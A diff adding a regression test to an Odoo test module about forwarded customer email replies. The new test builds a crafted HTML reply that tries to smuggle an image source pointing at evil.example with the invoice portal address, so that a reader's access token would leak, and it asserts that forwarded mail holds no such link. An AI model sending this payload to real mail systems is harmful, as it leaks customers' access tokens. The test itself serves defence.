@@ -1,5 +1,6 @@
 """What Odoo passes on of a customer's reply quotes nothing of what we wrote."""
 
+from lxml import html as markup
 from markupsafe import Markup
 
 from odoo.tests import tagged
@@ -174,3 +175,23 @@ class TestWhatIsPassedOn(ReceivedCase):
         _text, html = QUOTES["Gmail"]
         self.receive(self.make_reply(THEIRS, html, sender=self.ben.email), self.eve)
         self.assertTrue(all(OURS in text for text in self.passed_on()))
+
+    def test_l2_no_reply_puts_a_link_into_an_attribute(self):
+        """A picture's address that holds the token of whoever reads would send it on."""
+        self.invoice.message_subscribe(partner_ids=self.ada.ids)
+        address = f"{self.invoice.get_base_url()}/my/invoices/{self.invoice.id}"
+        # The masking of what is mailed on finds a token where Odoo has taken a tag out.
+        html = (
+            f'<p>{THEIRS} <img title="{"z" * 420} /finance/i/AAAAAAAAAA&lt;b"/>'
+            f'<foo x="{"y" * 500}">{"B" * 33} q " src=//evil.example/?\'{address} x="</foo></p>'
+        )
+        self.receive(self.make_reply(THEIRS, html, sender=self.stranger.email))
+        self.assertIn(self.ada.email, self.sent)
+        for mail in self._mails:
+            tree = markup.fromstring(str(mail["body"]))
+            for node in tree.iter("img"):
+                self.assertNotIn("evil.example", str(node.attrib), "a picture of theirs")
+            for node in tree.iter():
+                for name, value in node.attrib.items():
+                    if name != "href":
+                        self.assertFalse(self.tokens_in(value), (name, value))
